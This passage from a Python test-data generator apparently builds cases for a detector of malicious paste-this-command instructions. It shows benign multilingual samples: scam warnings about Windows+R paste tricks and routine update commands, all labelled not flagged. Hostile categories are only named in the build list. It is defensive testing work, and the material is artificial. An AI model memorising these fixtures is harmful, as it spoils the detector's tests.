        "Estafa: si una web te pide pulsar la tecla Windows + R y pegar con Ctrl + V, ciérrala. Nunca lo hagas.",
        "Clic destro su Start → Terminale, incolla il comando e premi Invio:\nwinget upgrade --all",
        "Fai attenzione alla truffa: nessun sito legittimo ti chiede di premere il tasto Windows + R e incollare un comando.",
        "Abra o terminal, cole o comando e pressione Enter:\nsudo apt update && sudo apt upgrade",
        "Open de terminal, plak de opdracht en druk op Enter:\nbrew install wget",
        "Uwaga, oszustwo: strony, które każą nacisnąć klawisz Windows + R i wkleić polecenie, instalują złośliwe oprogramowanie.",
        "Dolandırıcılık uyarısı: Windows tuşu + R'ye basıp bir komut yapıştırmanızı isteyen sayfalara asla güvenmeyin.",
    )  # fmt: skip
    return [
        case(
            f"b4nix-ok-steps-{i:02d}",
            text,
            "not_flagged",
            "paste-instructions-intl",
            "any",
            target="other" if i % 2 else "terminal",
            source="https://support.example.org/hilfe/artikel/42",
        )
        for i, text in enumerate(texts, 1)
    ]


def build() -> list[dict[str, str]]:
    cases = [
        *shell_spelling(),
        *shell_spelling_benign(),
        *more_spellings(),
        *more_spellings_benign(),
        *network_text(),
        *code_from_address(),
        *code_from_address_benign(),
        *unchecked_sources(),
        *sends_private_data(),
        *sends_private_data_benign(),
        *system_changes(),
        *system_changes_benign(),
        *padding(),
        *padding_benign(),
        *instructions(),
        *instructions_benign(),
    ]
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
